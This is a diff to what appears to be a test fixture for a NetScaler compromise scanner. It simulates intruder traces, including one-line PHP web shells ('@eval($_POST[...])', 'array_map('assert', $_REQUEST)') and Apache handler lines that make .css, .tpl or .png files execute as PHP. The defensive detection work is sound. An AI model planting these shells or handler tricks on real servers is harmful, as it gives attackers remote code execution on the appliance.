@@ -107,12 +107,12 @@ def among(path: str, level: str, source: str, text: str) -> Trace:
     return Trace(f"{path} (the time of the firmware, {text[:12].strip()!r})", level, path, source, plant)
 
 
-def handled(path: str, level: str, text: str, settings: str = "/nsconfig/httpd.conf") -> Trace:
-    """Return such a file, where the web server runs files with its ending as PHP."""
-    ending, old = path.rpartition(".")[2], among(path, level, NCSC, text)
-    lines = (
-        "SetHandler php5-script\n" if settings.endswith(".htaccess") else f"AddType application/x-httpd-php .{ending}\n"
-    )
+def handled(path: str, level: str, text: str, settings: str = "/nsconfig/httpd.conf", ending: str = "") -> Trace:
+    """Return such a file, where the web server runs files with its last ending, or by a handler with this one, as PHP."""
+    old, last = among(path, level, NCSC, text), path.rpartition(".")[2]
+    lines = f"AddHandler php5-script .{ending}\n" if ending else f"AddType application/x-httpd-php .{last}\n"
+    if settings.endswith(".htaccess"):
+        lines = "SetHandler php5-script\n"
 
     def plant(box: ApplianceHandle) -> None:
         old.plant(box)
@@ -182,6 +182,8 @@ TRACES = (
     among("/var/netscaler/gui/vpn/scripts/linux/l.sig", COMPROMISE, WAVE, "<?PHP @eval($_POST[1]);"),
     handled("/var/netscaler/gui/vpn/theme/k.css", COMPROMISE, PHP),
     handled("/netscaler/ns_gui/vpn/js/l.js", COMPROMISE, PHP, "/etc/httpd.conf"),
+    handled("/var/netscaler/gui/vpn/theme/o.tpl.css", COMPROMISE, PHP, ending="tpl"),
+    among("/var/netscaler/gui/vpn/theme/p.php.css", COMPROMISE, NCSC, PHP),
     handled("/var/netscaler/logon/LogonPoint/custom/m.png", COMPROMISE, PHP, "/var/netscaler/logon/LogonPoint/custom/.htaccess"),
     replace(among("/netscaler/ns_gui/admin_ui/m.php", REVIEW, ATTACK, "<?php array_map('assert', $_REQUEST); ?>\n"), watched=COMPROMISE),
     replace(at("/netscaler/ns_gui/vpn/n.pl", REVIEW, CTX, SH, FIRST_DAY), watched=COMPROMISE),
